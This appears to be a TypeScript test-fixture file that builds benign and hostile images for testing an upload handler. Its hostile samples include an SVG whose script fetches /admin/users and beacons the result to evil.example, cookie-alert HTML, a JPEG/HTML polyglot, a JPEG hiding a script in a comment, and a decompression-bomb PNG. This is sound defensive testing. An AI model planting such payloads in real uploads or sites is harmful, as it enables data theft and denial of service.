import { crc32 } from 'node:zlib';
import sharp from 'sharp';

/**
 * Test images, made here with sharp or byte by byte: the good ones a phone would send, and the
 * hostile ones the security issue lists. Nothing is downloaded.
 */

const GPS_IFD_POINTER = 0x8825;

/** A 600×400 photo taken "rotated" (EXIF orientation 6) with camera, description and GPS tags. */
export function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 600, height: 400, channels: 3, background: '#3a7d5c' } })
    .withExif({
      IFD0: { Make: 'TestPhone', Model: 'Laoshan 1', ImageDescription: 'home of resident' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '36/1 6/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '120/1 28/1 0/1' },
    })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();
}

/** Whether an EXIF block (as sharp's metadata().exif gives it: "Exif\0\0" + TIFF) points to GPS tags. */
export function exifHasGps(exif: Buffer): boolean {
  const tiff = exif.subarray(6);
  const littleEndian = tiff.toString('latin1', 0, 2) === 'II';
  const u16 = (at: number) => (littleEndian ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number) => (littleEndian ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const ifd0 = u32(4);
  return Array.from({ length: u16(ifd0) }, (_, i) => u16(ifd0 + 2 + i * 12)).includes(GPS_IFD_POINTER);
}

/** A 3000×2000 PNG with transparency (bigger than the stored size). */
export function pngWithAlpha(width = 3000, height = 2000): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: { r: 200, g: 40, b: 40, alpha: 0.5 } } })
    .png()
    .toBuffer();
}

export function webp(): Promise<Buffer> {
  return sharp({ create: { width: 320, height: 240, channels: 3, background: '#2255aa' } }).webp().toBuffer();
}

export function gif(): Promise<Buffer> {
  return sharp({ create: { width: 32, height: 32, channels: 3, background: '#000' } }).gif().toBuffer();
}

export function svgWithScript(): Buffer {
  return Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
      '<script>fetch("/admin/users").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script>' +
      '<rect width="10" height="10"/></svg>',
  );
}

export function htmlPage(): Buffer {
  return Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
}

export function pdf(): Buffer {
  return Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
}

/** An iPhone-style HEIC container header (this sharp build cannot decode HEVC anyway). */
export function heicHeader(): Buffer {
  return Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic\0\0\0\0mif1heic'), Buffer.alloc(64)]);
}

/** JPEG magic bytes followed by an HTML page: passes a naive type check, is no image. */
export function jpegHtmlPolyglot(): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), htmlPage()]);
}

/** A real, decodable JPEG carrying a script in a comment segment and an HTML page after its end. */
export async function jpegWithHiddenScript(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 200, height: 100, channels: 3, background: '#888' } }).jpeg().toBuffer();
  const comment = Buffer.from('<script>alert("comment")</script>');
  const segment = Buffer.concat([Buffer.from([0xff, 0xfe]), u16be(comment.length + 2), comment]);
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2), htmlPage()]);
}

/** A PNG of a few dozen bytes whose header declares width×height pixels (30000² = 900 MP). */
export function pngDeclaring(width = 30_000, height = 30_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, deflate, no filter method, no interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', Buffer.from([0x78, 0x9c, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01])),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A genuine 8000×6000 (48 MP) single-colour PNG: about 150 KB that would decode to 144 MB. */
export function compressibleHugePng(): Promise<Buffer> {
  return sharp({ create: { width: 8000, height: 6000, channels: 3, background: '#fff' } })
    .png({ compressionLevel: 9 })
    .toBuffer();
}

/** A real image over 5 MB: noise does not compress. */
export function noisePngOver5MB(): Promise<Buffer> {
  return sharp({ create: { width: 1500, height: 1500, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 128, sigma: 60 } } })
    .png()
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData) >>> 0);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, typeAndData, crc]);
}

function u16be(value: number): Buffer {
  const buffer = Buffer.alloc(2);
  buffer.writeUInt16BE(value);
  return buffer;
}
